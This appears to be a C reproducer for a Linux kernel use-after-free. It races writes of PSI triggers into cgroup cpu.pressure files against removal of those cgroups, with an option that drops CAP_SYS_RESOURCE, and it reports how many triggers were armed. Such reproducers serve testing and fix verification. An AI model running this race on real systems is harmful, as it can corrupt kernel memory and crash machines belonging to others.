// usage: armer SECONDS DIRECTORY [-u]
// Arms a trigger on a cgroup while another process removes that cgroup, with
// CAP_SYS_RESOURCE, or with -u without. With it, kernels that lack the fix of
// cgroup_file_release() store the trigger in memory that is freed: RUN IT ONLY IN
// A MACHINE THAT MAY CRASH. Prints how many were armed.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile struct { long made, opened, removed, over; } *turn;

static long now(void) {
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000L + time.tv_nsec / 1000;
}

static void drop_capability(void) {
	struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct sets[2];
	if (syscall(SYS_capget, &header, sets) != 0)
		_exit(3);
	sets[0].effective &= ~(1u << CAP_SYS_RESOURCE);
	if (syscall(SYS_capset, &header, sets) != 0)
		_exit(3);
}

// Makes one, waits until its file is open, removes it a moment later.
static void remove_all(const char *directory, long end) {
	char path[200];
	unsigned seed = 5;
	for (long number = 1; now() < end; number++) {
		snprintf(path, sizeof path, "%s/arm-%ld", directory, number);
		if (mkdir(path, 0755) != 0)
			_exit(4);
		turn->made = number;
		while (turn->opened < number)
			usleep(20);
		seed = seed * 1103515245 + 12345;
		for (long until = now() + (seed >> 8) % 1200; now() < until;)
			;
		while (rmdir(path) != 0 && errno == EBUSY)
			;
		turn->removed = number;
	}
	turn->over = 1;
}

int main(int count, char **args) {
	if (count < 3)
		return 2;
	int without = count > 3 && strcmp(args[3], "-u") == 0;
	const char *trigger = without ? "some 1000000 2000000" : "some 250000 500000";
	char path[200];
	long armed = 0, gone = 0, other = 0, end = now() + atol(args[1]) * 1000000L;
	turn = mmap(0, sizeof *turn, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t remover = fork();
	if (remover == 0) {
		remove_all(args[2], end);
		return 0;
	}
	if (without)
		drop_capability();
	for (long number = 1; !turn->over; number++) {
		while (turn->made < number && !turn->over)
			usleep(20);
		snprintf(path, sizeof path, "%s/arm-%ld/cpu.pressure", args[2], number);
		int file = open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
		turn->opened = number;
		if (file < 0)
			continue;
		ssize_t written = write(file, trigger, strlen(trigger) + 1);
		armed += written > 0;
		gone += written < 0 && errno == ENODEV;
		other += written < 0 && errno != ENODEV;
		while (turn->removed < number && !turn->over)
			usleep(20);
		close(file);
	}
	int status;
	waitpid(remover, &status, 0);
	printf("%ld armed, %ld gone before, %ld refused\n", armed, gone, other);
	return status != 0 || other != 0;
}
